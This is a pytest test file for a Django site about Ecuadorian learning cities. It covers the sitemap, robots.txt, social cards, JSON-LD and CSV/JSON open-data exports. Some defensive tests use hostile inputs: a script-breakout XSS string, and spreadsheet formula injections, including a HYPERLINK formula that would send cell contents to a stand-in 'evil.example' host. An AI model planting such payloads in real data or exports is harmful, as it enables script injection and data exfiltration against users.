"""Being found and shared (sitemap, robots, canonical, cards, JSON-LD) and the open data."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from django.utils import translation

from cities.models import City, Photo

from .factories import make_city, make_criterion, make_photo, make_program
from .public_helpers import PUBLIC_PAGES, add_cities, count_queries

pytestmark = pytest.mark.django_db

SITEMAP_NS = {
    "s": "http://www.sitemaps.org/schemas/sitemap/0.9",
    "xhtml": "http://www.w3.org/1999/xhtml",
}


def test_sitemap_lists_public_pages_in_both_languages_with_lastmod(client, seeded):
    make_city(slug="zamora", status="draft")
    response = client.get("/sitemap.xml")
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    urls = {url.find("s:loc", SITEMAP_NS).text: url for url in root.findall("s:url", SITEMAP_NS)}
    for language in ("es", "en"):
        pages = ("", "cities/", "criteria/", "map/", "photo-credits/")
        for path in (*pages, "cities/quito/", "cities/azogues/"):
            assert f"http://testserver/{language}/{path}" in urls
    assert not [url for url in urls if "zamora" in url or "search" in url]
    quito = urls["http://testserver/es/cities/quito/"]
    lastmod = datetime.fromisoformat(quito.find("s:lastmod", SITEMAP_NS).text)
    assert lastmod == City.objects.get(slug="quito").updated_at.replace(microsecond=0)
    alternates = {
        link.get("hreflang"): link.get("href") for link in quito.findall("xhtml:link", SITEMAP_NS)
    }
    assert alternates["en"] == "http://testserver/en/cities/quito/"
    assert alternates["x-default"] == "http://testserver/cities/quito/"


def test_the_sitemap_dates_an_evening_change_in_ecuador_at_its_moment_not_the_utc_day(client):
    """At 21:30 in Ecuador it is already the next day in UTC: a date alone would be wrong
    for one of them, so lastmod is the moment with its offset, the same instant for both."""
    evening = datetime(2026, 6, 3, 21, 30, tzinfo=ZoneInfo("America/Guayaquil"))
    with time_machine.travel(evening, tick=False):
        make_city(slug="quito")
        root = ET.fromstring(client.get("/sitemap.xml").content)
    lastmods = [
        url.find("s:lastmod", SITEMAP_NS).text
        for url in root.findall("s:url", SITEMAP_NS)
        if url.find("s:loc", SITEMAP_NS).text.endswith("/cities/quito/")
    ]
    assert lastmods == ["2026-06-03T21:30:00-05:00"] * 2
    assert datetime.fromisoformat(lastmods[0]).astimezone(UTC).date().isoformat() == "2026-06-04"


def test_robots_txt_disallows_the_admin_and_names_the_sitemap(client):
    response = client.get("/robots.txt")
    assert response["Content-Type"].startswith("text/plain")
    text = response.content.decode()
    assert "Disallow: /admin/" in text
    assert "Sitemap: http://testserver/sitemap.xml" in text


def test_pages_have_a_canonical_address_without_query_and_a_description(client, seeded):
    html = client.get("/es/cities/?year=2018").content.decode()
    assert '<link rel="canonical" href="http://testserver/es/cities/">' in html
    description = re.search(r'<meta name="description" content="([^"]+)">', html).group(1)
    assert "Directorio" in description


def test_a_city_page_has_social_cards_with_its_cover_photo_and_alt_text(client, seeded):
    html = client.get("/en/cities/quito/").content.decode()
    cover = City.objects.get(slug="quito").cover_photo
    # The JPEG rendition at least 1200 px wide (1600 with the default widths).
    rendition = next(
        r for r in cover.renditions if r["type"] == "image/jpeg" and r["width"] == 1600
    )
    image = f"http://testserver/media/{rendition['name']}"
    assert f'<meta property="og:image" content="{image}">' in html
    assert '<meta property="og:image:width" content="1600">' in html
    assert f'<meta property="og:image:alt" content="{cover.alt_text_en}">' in html
    assert '<meta name="twitter:card" content="summary_large_image">' in html
    assert '<meta property="og:title" content="Quito">' in html
    assert '<meta property="og:locale" content="en_US">' in html
    assert "Social policies aligned" in re.search(r'og:description" content="([^"]+)"', html)[1]


def test_a_city_page_describes_the_city_in_json_ld(client, seeded):
    html = client.get("/es/cities/loja/").content.decode()
    data = json.loads(
        re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)[1]
    )
    assert data["@type"] == "City" and data["name"] == "Loja"
    assert data["url"] == "http://testserver/es/cities/loja/"
    assert data["geo"] == {"@type": "GeoCoordinates", "latitude": -3.99313, "longitude": -79.20422}
    assert data["containedInPlace"]["name"] == "Loja"
    assert data["memberOf"]["name"] == "UNESCO Global Network of Learning Cities"
    assert data["inLanguage"] == "es" and data["description"].startswith("Educación")


def test_json_ld_cannot_break_out_of_its_script(client):
    make_city(slug="evil", name="</script><script>alert(1)</script>", tagline="a & b <i>")
    html = client.get("/en/cities/evil/").content.decode()
    script = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)[1]
    assert "<" not in script and json.loads(script)["name"].startswith("</script>")


class TestOpenData:
    def test_json_has_published_cities_programs_criteria_and_credits(self, client, seeded):
        make_city(slug="zamora", status="draft")
        loja = City.objects.get(slug="loja")
        make_program(loja, name="Hidden", slug="hidden", status="draft")
        make_photo(city=loja, status="draft", title="Unreleased view")
        response = client.get("/data/learning-cities.json")
        assert response["Content-Type"] == "application/json"
        data = response.json()
        assert [city["slug"] for city in data["cities"]] == ["cuenca", "quito", "loja", "azogues"]
        assert len(data["criteria"]) == 6
        quito = data["cities"][1]
        assert quito["name"] == {"es": "Quito", "en": "Quito"}
        assert quito["url"]["en"] == "http://testserver/en/cities/quito/"
        assert quito["tagline"]["es"].startswith("Políticas sociales")
        assert [p["slug"] for p in quito["programs"]][2] == "jovenes-quito"
        assert quito["programs"][1]["name"]["es"].startswith("Sistema Integral")
        assert quito["programs"][2]["criteria"] == ["inclusive-learning"]
        assert quito["cover_photo"]["credit"] == "Patrimonio Quito"
        assert quito["cover_photo"]["licence"] == "all-rights-reserved"
        azogues = data["cities"][3]
        assert azogues["cover_photo"]["credit"] == "author unknown"
        loja_data = data["cities"][2]
        assert "hidden" not in [p["slug"] for p in loja_data["programs"]]
        assert len(loja_data["photos"]) == 1
        assert data["cities"][0]["awards"][0]["year"] == 2024

    def test_csv_files_hold_both_languages_and_the_credits(self, client, seeded):
        def rows(url):
            response = client.get(url)
            assert response["Content-Type"] == "text/csv; charset=utf-8"
            return list(csv.DictReader(io.StringIO(response.content.decode())))

        cities = rows("/data/cities.csv")
        assert [row["slug"] for row in cities] == ["cuenca", "quito", "loja", "azogues"]
        assert (
            cities[2]["cover_photo_credit"] == "Daniel Morejón / Ministerio de Cultura y Patrimonio"
        )
        assert cities[3]["tagline_es"].startswith("Alfabetización")
        assert cities[3]["tagline_en"].startswith("Literacy")
        quito_programs = [row for row in rows("/data/programs.csv") if row["city"] == "quito"]
        assert len(quito_programs) == 6
        assert quito_programs[1]["name_en"] == "Integrated Care System for Older Adults"
        criteria = rows("/data/criteria.csv")
        assert criteria[0]["title_es"].startswith("Aprendizaje inclusivo")
        photos = rows("/data/photos.csv")
        assert len(photos) == 4 and {row["licence"] for row in photos} == {"all-rights-reserved"}

    def test_csv_text_cells_cannot_run_as_spreadsheet_formulas(self, client):
        link = '=HYPERLINK("http://evil.example/?"&A1,"Loja")'
        city = make_city(
            name=link,
            latitude="-0.180650",
            longitude="-78.46783",
            population=2011388,
            population_year=2022,
        )
        make_program(city, name="=1+2", start_year=2019)
        holders = ["+1", "-1", "@SUM(A1)", "\tTab", "\rReturn", "plain"]
        for holder in holders:
            make_photo(city=city, holder=holder)

        cities = client.get("/data/cities.csv").content.decode()
        # Every text cell is quoted, a formula gets its leading quote; numbers stay bare.
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Loja"")"' in cities
        assert ",2011388,2022," in cities and ",-0.18065,-78.46783," in cities
        row = next(csv.DictReader(io.StringIO(cities)))
        assert row["name_es"] == row["name_en"] == f"'{link}"
        assert row["latitude"] == "-0.18065" and row["population"] == "2011388"

        programs = client.get("/data/programs.csv").content.decode()
        assert next(csv.DictReader(io.StringIO(programs)))["name_en"] == "'=1+2"
        assert ",2019," in programs

        photos = csv.DictReader(io.StringIO(client.get("/data/photos.csv").content.decode()))
        written = [row["holder"] for row in photos if row["holder"]]
        assert sorted(written) == sorted(
            ["'+1", "'-1", "'@SUM(A1)", "'\tTab", "'\rReturn", "plain"]
        )

        make_criterion(slug="minus", title="-learning", order=7)
        criteria = client.get("/data/criteria.csv").content.decode()
        assert '"minus","building_block",7,"\'-learning","\'-learning"' in criteria

    def test_data_files_accept_only_reading(self, client):
        assert client.post("/data/learning-cities.json").status_code == 405

    def test_exports_and_sitemap_keep_a_fixed_number_of_queries(self, client):
        add_cities(2)
        urls = ["/data/learning-cities.json", "/data/cities.csv", "/data/photos.csv"]
        urls += ["/data/programs.csv", "/sitemap.xml"]
        few = [count_queries(client, url) for url in urls]
        add_cities(8)
        assert [count_queries(client, url) for url in urls] == few


@pytest.mark.parametrize("language", ["es", "en"])
def test_every_public_page_has_exactly_one_h1(client, seeded, language):
    """Walks every public page, in each language, with the seed and a fallback city."""
    make_city(slug="ibarra", name="Ibarra", narrative_es="", narrative_en="Only in English.")
    with translation.override(language):
        urls = [reverse(name) for name in PUBLIC_PAGES]
        urls += [city.get_absolute_url() for city in City.objects.published()]
    urls += [f"/{language}/search/?q=quito", f"/{language}/search/?q=%3C%3E"]
    urls += [f"/{language}/cities/?year=1999", f"/{language}/cities/nowhere/"]
    for url in urls:
        response = client.get(url)
        assert response.status_code in (200, 404), url
        html = response.content.decode()
        assert len(re.findall(r"<h1[ >]", html)) == 1, url
        assert f'<html lang="{language}">' in html, url
        assert '<a class="skip-link" href="#main-content">' in html, url


def test_the_404_page_speaks_the_visitors_language(client):
    spanish = client.get("/es/cities/nowhere/")
    assert spanish.status_code == 404
    assert "Página no encontrada" in spanish.content.decode()
    assert "Page not found" in client.get("/en/cities/nowhere/").content.decode()


def test_photo_alt_text_follows_the_language(client, seeded):
    photo = Photo.objects.get(reference="Azogues_01")
    assert photo.alt_text_es.startswith("Ilustración provisional")
    assert f'alt="{photo.alt_text_es}"' in client.get("/es/cities/azogues/").content.decode()
    assert f'alt="{photo.alt_text_en}"' in client.get("/en/cities/azogues/").content.decode()
